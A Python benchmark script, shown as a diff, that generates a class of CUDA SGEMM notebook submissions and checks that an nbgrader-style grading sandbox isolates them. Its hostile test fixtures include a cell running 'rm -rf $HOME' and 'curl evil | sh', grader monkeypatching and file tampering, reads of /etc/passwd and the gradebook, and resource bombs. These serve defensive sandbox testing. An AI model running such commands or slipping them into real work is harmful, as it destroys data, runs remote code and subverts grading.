@@ -1,0 +1,372 @@
+"""A class-sized run of ``python -m tilinglib.grading``, measured and checked.
+
+    .venv/bin/python bench/grade_class.py                 # 300 submissions of a1_tiled_sgemm
+    .venv/bin/python bench/grade_class.py --n 20 --jobs 2 --keep /tmp/class
+
+Builds, in a temporary folder laid out as nbgrader's ``submitted/``, a class of `--n`
+submissions of ``a1_tiled_sgemm``: correct kernels in several styles and tile sizes and cell
+shapes, every known bug of ``tests/submissions/bad_*.cu``, and hostile ones (answer cells that
+monkeypatch the grader or write to its files, ``#include`` of host files, a macro bomb, endless
+loops, printf floods, huge local arrays and formats, expressions that exhaust the parser's
+stack, non-literal kernels, broken, missing, linked and oversized notebooks). Kinds are dealt
+round-robin and shuffled with a fixed seed, so every hostile submission has ordinary
+neighbours.
+
+It then grades the class with the command, in a subprocess, and prints the wall time,
+submissions per minute, the peak memory of any one grading process (``ru_maxrss`` of
+RUSAGE_CHILDREN) and the count per status. It checks that:
+
+- grades.csv has exactly one row per submission and a feedback file for each (none lost);
+- every submission of a deterministic kind (all but the hostile kinds whose outcome depends
+  on time or memory) has the same status and score as the same notebook graded alone, so no
+  hostile submission changed any other's score, its neighbours' included;
+- every hostile submission ended with one of the statuses its kind allows and a score.
+
+Exit status 0 when every check holds, 1 otherwise. `build_class` and `verify` are used by
+``tests/test_grading_cli.py`` for CI's small version.
+"""
+
+from __future__ import annotations
+
+import argparse
+import csv
+import os
+import random
+import re
+import resource
+import subprocess
+import sys
+import tempfile
+import time
+from dataclasses import dataclass
+from pathlib import Path
+
+ROOT = Path(__file__).resolve().parent.parent
+SUBMISSIONS = ROOT / "tests" / "submissions"
+ASSIGNMENT = "a1_tiled_sgemm"
+SOURCE_NOTEBOOK = ROOT / "notebooks" / "assignments" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
+ANY = frozenset({"graded", "compile_error", "timeout", "memory", "crashed"})
+
+EMPTY_NO_TILE = ("__global__ void sgemm(int M, int N, int K, const float* A, const float* B, "
+                 "float* C) {}\n")
+EMPTY_WITH_TILE = "#define TILE 16\n" + EMPTY_NO_TILE
+
+
+def _reference_kernel() -> str:
+    """The instructor's solution from the a1 source notebook, markers removed."""
+    import ast
+    import nbformat
+
+    nb = nbformat.read(SOURCE_NOTEBOOK, as_version=4)
+    for cell in nb.cells:
+        if cell.metadata.get("nbgrader", {}).get("grade_id") == "a1-kernel":
+            for stmt in ast.parse(cell.source).body:
+                if isinstance(stmt, ast.Assign) and stmt.targets[0].id == "KERNEL":
+                    return ast.literal_eval(stmt.value)
+    raise RuntimeError(f"no KERNEL literal in the a1-kernel cell of {SOURCE_NOTEBOOK}")
+
+
+def _with_tile(source: str, tile: int) -> str:
+    return re.sub(r"#define TILE \d+", f"#define TILE {tile}", source, count=1)
+
+
+def _body(statements: str) -> str:
+    """A kernel with the right signature, TILE 16 and `statements` as its body."""
+    return ("#define TILE 16\n__global__ void sgemm(int M, int N, int K, const float* A, "
+            "const float* B, float* C)\n{\n" + statements + "\n}\n")
+
+
+def _cell(kernel: str, before: str = "", after: str = "") -> str:
+    return (before + 'KERNEL = r"""\n' + kernel + '\n"""\n' + after).strip("\n") + "\n"
+
+
+@dataclass(frozen=True)
+class Kind:
+    """One kind of submission: `cell` is the answer cell's source (None for kinds that
+    replace the whole notebook: see `write`), `statuses` the statuses it may end with,
+    `deterministic` whether its score must equal the score it gets when graded alone."""
+
+    name: str
+    cell: str | None
+    statuses: frozenset
+    deterministic: bool = True
+    hostile: bool = False
+    notebook: str = "normal"     # normal | no_metadata | bad_json | missing | symlink | huge
+
+
+def kinds() -> list:
+    """Every kind of submission the class is dealt from."""
+    ref = _reference_kernel()
+    out = []
+    for tile in (8, 16, 32):
+        out.append(Kind(f"good_reference_tile{tile}", _cell(_with_tile(ref, tile)),
+                        frozenset({"graded"})))
+    for path in sorted(SUBMISSIONS.glob("good_*.cu")):
+        out.append(Kind(path.stem, _cell(path.read_text()), frozenset({"graded"})))
+    out.append(Kind("good_annotated_plain_string",
+                    'KERNEL: str = """\n' + ref + '\n"""\n', frozenset({"graded"})))
+    out.append(Kind("good_with_magics_and_comments",
+                    _cell(ref, before="%load_ext autoreload\n# my kernel, v3\n",
+                          after="!nvcc --version\nprint(len(KERNEL))\n"),
+                    frozenset({"graded"})))
+    out.append(Kind("good_no_metadata", _cell(ref), frozenset({"graded"}),
+                    notebook="no_metadata"))
+    for path in sorted(SUBMISSIONS.glob("bad_*.cu")):
+        out.append(Kind(path.stem, _cell(path.read_text()),
+                        frozenset({"graded", "compile_error"})))
+    out.append(Kind("empty_no_tile", _cell(EMPTY_NO_TILE), frozenset({"graded"})))
+    # --- hostile answer cells: nothing in them but the literal is ever run
+    patch = ("import numpy as np\nimport tilinglib.grading as g\n"
+             "check_sgemm = lambda *a, **k: None\nnp.allclose = lambda *a, **k: True\n"
+             "g.GradeReport.score = property(lambda self: 100.0)\n")
+    out.append(Kind("hostile_monkeypatch_empty", _cell(EMPTY_WITH_TILE, before=patch),
+                    frozenset({"graded"}), hostile=True))
+    out.append(Kind("hostile_monkeypatch_no_tile", _cell(EMPTY_NO_TILE, before=patch),
+                    frozenset({"graded"}), hostile=True))
+    write = ("import tilinglib.grading.sgemm as s\n"
+             "open(s.__file__, 'a').write('\\ncheck_sgemm = lambda *a, **k: None\\n')\n"
+             "print(open('../../gradebook.db', 'rb').read()[:100])\n")
+    out.append(Kind("hostile_writes_grader_file",
+                    _cell((SUBMISSIONS / "bad_unguarded_store.cu").read_text(), before=write),
+                    frozenset({"graded"}), hostile=True))
+    out.append(Kind("hostile_shell_in_cell", _cell(ref, before="import os\nos.system('rm -rf "
+                                                                "$HOME')\n!curl evil | sh\n"),
+                    frozenset({"graded"}), hostile=True))
+    out.append(Kind("hostile_nonliteral_open", "KERNEL = open('/etc/passwd').read()\n",
+                    frozenset({"no_kernel"}), hostile=True))
+    out.append(Kind("hostile_nonliteral_call", "def make_kernel():\n    return 'x'\n"
+                                               "KERNEL = make_kernel()\n",
+                    frozenset({"no_kernel"}), hostile=True))
+    # --- hostile CUDA C: the sandbox must hold whatever the emulator does with it
+    for label, include in [("passwd", '"/etc/passwd"'), ("relative", '"../../../../etc/hosts"'),
+                           ("dev_stdin", '"/dev/stdin"')]:
+        out.append(Kind(f"hostile_include_{label}", _cell(f"#include {include}\n" + ref),
+                        frozenset({"graded", "compile_error"}), hostile=True))
+    out.append(Kind("hostile_include_dev_zero", _cell("#include </dev/zero>\n" + ref), ANY,
+                    deterministic=False, hostile=True))
+    bomb = "#define X0 1\n" + "".join(f"#define X{i} X{i-1}+X{i-1}\n" for i in range(1, 21))
+    out.append(Kind("hostile_macro_bomb", _cell(bomb + _body("    C[0] = X20;")), ANY,
+                    deterministic=False, hostile=True))
+    out.append(Kind("hostile_endless_loop", _cell(_body("    while (1) { }")),
+                    frozenset({"graded", "timeout"}), hostile=True))
+    out.append(Kind("hostile_endless_device_loop",
+                    _cell("#define TILE 16\n__device__ int spin(int x) { for (;;) { x = x + 1; } "
+                          "return x; }\n" + EMPTY_NO_TILE.replace("{}", "{ C[0] = spin(M); }")),
+                    frozenset({"graded", "timeout"}), hostile=True))
+    flood = ref.replace("sum += As[ty][k] * Bs[k][tx];",
+                        '{ sum += As[ty][k] * Bs[k][tx]; printf("%d %d %f\\n", t, k, sum); }')
+    out.append(Kind("hostile_printf_flood", _cell(flood), ANY, deterministic=False,
+                    hostile=True))
+    out.append(Kind("hostile_printf_huge_width", _cell(_body('    printf("%1000000000d", 1);')),
+                    ANY, deterministic=False, hostile=True))
+    out.append(Kind("hostile_huge_local_array",
+                    _cell(_body("    float big[1 << 26];\n    big[threadIdx.x] = 1.0f;\n"
+                                "    C[0] = big[threadIdx.x];")),
+                    ANY, deterministic=False, hostile=True))
+    out.append(Kind("hostile_huge_tile", _cell(_with_tile(ref, 100000)),
+                    frozenset({"graded"}), hostile=True))
+    out.append(Kind("hostile_huge_shared_array",
+                    _cell(_body("    __shared__ float big[1 << 28];\n    big[threadIdx.x] = 1.0f;\n"
+                                "    C[0] = big[threadIdx.x];")),
+                    ANY, deterministic=False, hostile=True))
+    out.append(Kind("hostile_deep_parentheses",
+                    _cell(_body("    C[0] = " + "(" * 150 + "1" + ")" * 150 + ";")), ANY,
+                    deterministic=False, hostile=True))
+    out.append(Kind("hostile_long_sum",
+                    _cell(_body("    C[0] = " + " + ".join(["A[0]"] * 600) + ";")), ANY,
+                    deterministic=False, hostile=True))
+    out.append(Kind("hostile_char_777", _cell(_body("    C[0] = '\\777';")), ANY,
+                    deterministic=False, hostile=True))
+    # --- hostile or broken notebooks
+    out.append(Kind("hostile_bad_json", None, frozenset({"bad_notebook"}), hostile=True,
+                    notebook="bad_json"))
+    out.append(Kind("hostile_symlink_dev_zero", None, frozenset({"bad_notebook"}), hostile=True,
+                    notebook="symlink"))
+    out.append(Kind("hostile_huge_notebook", _cell(ref), frozenset({"bad_notebook"}),
+                    hostile=True, notebook="huge"))
+    out.append(Kind("missing_notebook", None, frozenset({"missing_notebook"}),
+                    notebook="missing"))
+    return out
+
+
+def _notebook_template():
+    import nbformat
+    return nbformat.read(SOURCE_NOTEBOOK, as_version=4)
+
+
+def write(folder: Path, kind: Kind, template=None) -> None:
+    """Write one submission of `kind` into `folder` (``<student>/<assignment>/``)."""
+    import nbformat
+
+    folder.mkdir(parents=True, exist_ok=True)
+    path = folder / f"{ASSIGNMENT}.ipynb"
+    if kind.notebook == "missing":
+        (folder / "my_answers.ipynb").write_text("{}")
+        return
+    if kind.notebook == "bad_json":
+        path.write_text('{"cells": [ {"cell_type": "code", "source": "KERNEL = 1"')
+        return
+    if kind.notebook == "symlink":
+        os.symlink("/dev/zero", path)
+        return
+    nb = nbformat.from_dict(template or _notebook_template())
+    for cell in nb.cells:
+        if cell.metadata.get("nbgrader", {}).get("grade_id") == "a1-kernel":
+            cell.source = kind.cell
+            if kind.notebook == "no_metadata":
+                del cell.metadata["nbgrader"]
+            if kind.notebook == "huge":
+                cell.outputs = [nbformat.v4.new_output("stream", name="stdout",
+                                                       text="x" * (21 * 2**20))]
+    nbformat.write(nb, path)
+
+
+def build_class(directory, n: int, *, seed: int = 0, only=None) -> dict:
+    """Write `n` submissions under `directory` (nbgrader's submitted/ layout). Kinds are dealt
+    round-robin (`only`: names of the kinds to use), then shuffled with `seed`. Returns
+    {student: Kind}."""
+    directory = Path(directory)
+    pool = [k for k in kinds() if only is None or k.name in only]
+    dealt = [pool[i % len(pool)] for i in range(n)]
+    random.Random(seed).shuffle(dealt)
+    template = _notebook_template()
+    plan = {}
+    for i, kind in enumerate(dealt):
+        student = f"s{i:03d}"
+        write(directory / student / ASSIGNMENT, kind, template)
+        plan[student] = kind
+    return plan
+
+
+def grade_command(directory, out_dir, *, jobs, timeout, memory_mib, extra=()) -> tuple:
+    """Run ``python -m tilinglib.grading`` on `directory`; return (rows by student, wall
+    seconds, the completed process)."""
+    out_dir = Path(out_dir)
+    cmd = [sys.executable, "-m", "tilinglib.grading", str(directory), "--out",
+           str(out_dir / "grades.csv"), "--feedback-dir", str(out_dir / "feedback"),
+           "--jobs", str(jobs), "--timeout", str(timeout), "--memory", str(memory_mib), *extra]
+    t0 = time.monotonic()
+    proc = subprocess.run(cmd, capture_output=True, text=True, stdin=subprocess.DEVNULL)
+    wall = time.monotonic() - t0
+    rows = {}
+    csv_path = out_dir / "grades.csv"
+    if csv_path.exists():
+        with open(csv_path, newline="") as fh:
+            for row in csv.DictReader(fh):
+                rows.setdefault(row["student"], []).append(row)
+    return rows, wall, proc
+
+
+def grade_alone(plan: dict, *, timeout, memory_mib) -> dict:
+    """Grade one submission of each deterministic kind in `plan` on its own (a class of one,
+    one job); returns {kind name: (status, score)}."""
+    from tilinglib.grading.cli import Submission, grade_submission
+    from tilinglib.grading.sandbox import Limits
+
+    limits = Limits(wall_seconds=timeout, cpu_seconds=int(timeout),
+                    memory_bytes=memory_mib * 2**20)
+    alone = {}
+    with tempfile.TemporaryDirectory(prefix="tilinglib-alone-") as tmp:
+        for kind in {k.name: k for k in plan.values() if k.deterministic}.values():
+            folder = Path(tmp) / kind.name / ASSIGNMENT
+            write(folder, kind)
+            r = grade_submission(Submission(kind.name, ASSIGNMENT, folder / f"{ASSIGNMENT}.ipynb"),
+                                 limits=limits)
+            alone[kind.name] = (r.outcome.status, r.outcome.score)
+    return alone
+
+
+def verify(plan: dict, rows: dict, alone: dict, feedback_dir) -> list:
+    """The problems found (empty: all checks hold)."""
+    problems = []
+    students = sorted(plan)
+    for student in students:
+        kind = plan[student]
+        got = rows.get(student, [])
+        if len(got) != 1:
+            problems.append(f"{student} ({kind.name}): {len(got)} rows in grades.csv, not 1")
+            continue
+        row = got[0]
+        status, score = row["status"], float(row["score"])
+        if status not in kind.statuses:
+            problems.append(f"{student} ({kind.name}): status {status}, expected one of "
+                            f"{sorted(kind.statuses)}")
+        if kind.deterministic and (status, score) != alone[kind.name]:
+            i = students.index(student)
+            near = [f"{s} ({plan[s].name})" for s in students[max(0, i - 1):i + 2] if s != student]
+            problems.append(f"{student} ({kind.name}): {status} {score:g} in the class, "
+                            f"{alone[kind.name][0]} {alone[kind.name][1]:g} alone "
+                            f"(neighbours: {', '.join(near)})")
+        if not (Path(feedback_dir) / student / f"{ASSIGNMENT}.txt").is_file():
+            problems.append(f"{student} ({kind.name}): no feedback file")
+    extra = sorted(set(rows) - set(plan))
+    if extra:
+        problems.append(f"rows for students that do not exist: {extra}")
+    return problems
+
+
+def main(argv=None) -> int:
+    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
+    p.add_argument("--n", type=int, default=300, help="submissions (default 300)")
+    p.add_argument("--jobs", type=int, default=os.cpu_count(),
+                   help="--jobs for the command (default: all cores)")
+    p.add_argument("--timeout", type=float, default=20.0,
+                   help="--timeout per submission, seconds (default 20: a correct kernel "
+                        "takes about 1)")
+    p.add_argument("--memory", type=int, default=1536, help="--memory per submission, MiB")
+    p.add_argument("--seed", type=int, default=0)
+    p.add_argument("--keep", metavar="DIR", help="build the class in DIR and keep it")
+    args = p.parse_args(argv)
+
+    tmp = None
+    if args.keep:
+        base = Path(args.keep)
+        base.mkdir(parents=True, exist_ok=True)
+    else:
+        tmp = tempfile.TemporaryDirectory(prefix="tilinglib-class-")
+        base = Path(tmp.name)
+    submitted = base / "submitted"
+    plan = build_class(submitted, args.n, seed=args.seed)
+    print(f"class: {len(plan)} submissions of {ASSIGNMENT} in {submitted} "
+          f"({len({k.name for k in plan.values()})} kinds, "
+          f"{sum(k.hostile for k in plan.values())} hostile); grading with --jobs {args.jobs} "
+          f"on {os.cpu_count()} cores...", flush=True)
+    rows, wall, proc = grade_command(submitted, base, jobs=args.jobs, timeout=args.timeout,
+                                     memory_mib=args.memory)
+    peak_kib = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
+    if proc.returncode != 0:
+        print(proc.stderr[-3000:], file=sys.stderr)
+    counts = {}
+    for got in rows.values():
+        for row in got:
+            counts[row["status"]] = counts.get(row["status"], 0) + 1
+    print(f"wall time: {wall:.1f} s for {len(plan)} submissions "
+          f"({60 * len(plan) / wall:.1f} per minute)")
+    print(f"peak memory of one process (ru_maxrss, RUSAGE_CHILDREN): {peak_kib / 1024:.0f} MiB")
+    print("statuses: " + ", ".join(f"{s} {n}" for s, n in sorted(counts.items())))
+    by_kind = {}
+    for student, kind in plan.items():
+        for row in rows.get(student, []):
+            by_kind.setdefault(kind.name, set()).add((row["status"], row["score"]))
+    for name in sorted(by_kind):
+        print(f"  {name:<36} " + "; ".join(f"{s} {sc}" for s, sc in sorted(by_kind[name])))
+    print("grading each deterministic kind alone...", flush=True)
+    alone = grade_alone(plan, timeout=args.timeout, memory_mib=args.memory)
+    problems = verify(plan, rows, alone, base / "feedback")
+    if proc.returncode != 0:
+        problems.append(f"the command exited with {proc.returncode}")
+    if problems:
+        print(f"{len(problems)} problems:")
+        for line in problems:
+            print("  " + line)
+    else:
+        print(f"verified: {len(plan)} rows, one per submission, each with a feedback file; "
+              f"every deterministic submission ({sum(k.deterministic for k in plan.values())}) "
+              f"scored as it does alone; every hostile one ended with an allowed status")
+    if tmp is not None:
+        tmp.cleanup()
+    return 1 if problems else 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
